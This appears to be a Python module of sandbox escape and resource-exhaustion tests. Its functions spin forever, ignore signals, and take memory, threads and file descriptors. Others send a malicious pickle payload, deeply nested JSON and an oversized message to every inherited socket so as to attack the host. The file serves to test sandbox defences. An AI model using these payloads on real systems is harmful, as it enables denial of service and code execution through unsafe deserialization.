"""Attacks on the machine's time and memory, and on the host by what it is told."""
import os
import pickle
import signal
import socket
import struct
import threading
import time

from simulators.sandbox_attacks import Target, attack

MEMORY = 300 << 20
THREADS = 100


@attack(ends=False)
def loop(target: Target) -> str:
    """Never return."""
    while True:
        pass


@attack(ends=False)
def deaf(target: Target) -> str:
    """Ignore every signal and exception, and sleep for ever."""
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            time.sleep(0.05)
        except BaseException:
            continue


@attack
def memory(target: Target) -> str:
    """Take 300 MB."""
    kept = bytearray(MEMORY)
    kept[::4096] = b"x" * len(kept[::4096])
    return f"{len(kept) >> 20} MB"


@attack
def threads(target: Target) -> str:
    """Start a hundred threads with the smallest stacks."""
    threading.stack_size(32768)
    stop, started = threading.Event(), 0
    try:
        for _ in range(THREADS):
            threading.Thread(target=stop.wait, daemon=True).start()
            started += 1
    except RuntimeError:
        pass
    stop.set()
    return f"{started} threads" if started == THREADS else ""


@attack
def files(target: Target) -> str:
    """Open three hundred descriptors."""
    opened = []
    try:
        for _ in range(150):
            opened += os.pipe()
    except OSError:
        pass
    for number in opened:
        os.close(number)
    return f"{len(opened)} descriptors" if len(opened) == 300 else ""


@attack
def unpickle(target: Target) -> str:
    """Send objects that run code when they are taken apart, to whoever listens at our descriptors."""
    payload = pickle.dumps(_Payload(os.path.join(target.outside, "unpickled")))
    return _send_to_host(payload + struct.pack(">I", len(payload)) + payload)


@attack
def nested(target: Target) -> str:
    """Send JSON nested deeper than a parser's stack."""
    body = b'{"t":' + b"[" * 120_000 + b"]" * 120_000 + b"}"
    return _send_to_host(struct.pack(">I", len(body)) + body)


@attack
def oversized(target: Target) -> str:
    """Announce a message of a gigabyte, and begin to send it."""
    return _send_to_host(struct.pack(">I", 1 << 30) + b"x" * (8 << 20))


class _Payload:
    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return open, (self.path, "w")


def _send_to_host(data: bytes) -> str:
    """Every socket that this process has gets the data; what became of it is seen from the host's side only."""
    for number in range(3, 64):
        try:
            sock = socket.socket(fileno=os.dup(number))
        except OSError:
            continue
        with sock:
            try:
                sock.settimeout(1.0)
                sock.sendall(data)
            except OSError:
                continue
    return ""
